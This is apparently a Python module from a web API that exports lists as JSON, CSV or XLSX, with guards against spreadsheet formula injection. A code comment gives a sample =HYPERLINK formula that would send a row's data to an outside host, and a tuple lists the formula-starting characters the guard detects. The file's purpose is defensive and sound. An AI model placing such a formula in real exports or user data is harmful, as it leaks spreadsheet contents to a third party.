"""Lists that users take to spreadsheets: JSON by default, CSV or XLSX on request (`?format=`)."""

import csv
import io
from collections.abc import Sequence
from decimal import Decimal
from typing import Any, Literal

from fastapi.responses import Response
from openpyxl import Workbook

from api.render import Json

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


Format = Literal["json", "csv", "xlsx"]
# What a spreadsheet takes a typed cell beginning with for a formula: a contractor's reference such as
# =HYPERLINK("http://...?"&C2) would run in the reviewer's spreadsheet and send the row away. An import
# (api/imports.py) takes off the apostrophe that the CSV export puts before such a cell.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _as_text(value: Any) -> Any:
    """A CSV cell a spreadsheet would read as a formula, behind the apostrophe that keeps it text."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def tabular(items: list[dict[str, Any]], columns: Sequence[str], fmt: str, filename: str,
            next_cursor: str | None = None, money: Sequence[str] = ()) -> Response:
    """The list as JSON ({items, next_cursor}), or its rows as CSV or XLSX (the next page's cursor in
    the X-Next-Cursor header). In XLSX the `money` columns (yuan as decimal strings) are numbers
    shown with two places, so that a spreadsheet sums them; every text is text, never a formula (in
    CSV, one that would read as one begins with an apostrophe)."""
    if fmt == "json":
        return Json({"items": items, "next_cursor": next_cursor})
    rows = [[item[c] for c in columns] for item in items]
    disposition = {"Content-Disposition": f'attachment; filename="{filename}.{fmt}"'}
    if next_cursor:
        disposition["X-Next-Cursor"] = next_cursor
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(columns)
        writer.writerows([_as_text(value) for value in row] for row in rows)
        return Response(("\ufeff" + out.getvalue()).encode(), media_type="text/csv; charset=utf-8",
                        headers=disposition)
    book = Workbook()
    sheet = book.active
    sheet.append(list(columns))
    amounts = [i for i, column in enumerate(columns) if column in money]
    for row in rows:
        sheet.append([Decimal(value) if i in amounts else value for i, value in enumerate(row)])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl made a formula of any text beginning with =
    for column in amounts:
        for (cell,) in sheet.iter_rows(min_row=2, min_col=column + 1, max_col=column + 1):
            cell.number_format = "0.00"
    out = io.BytesIO()
    book.save(out)
    return Response(out.getvalue(), media_type=XLSX, headers=disposition)
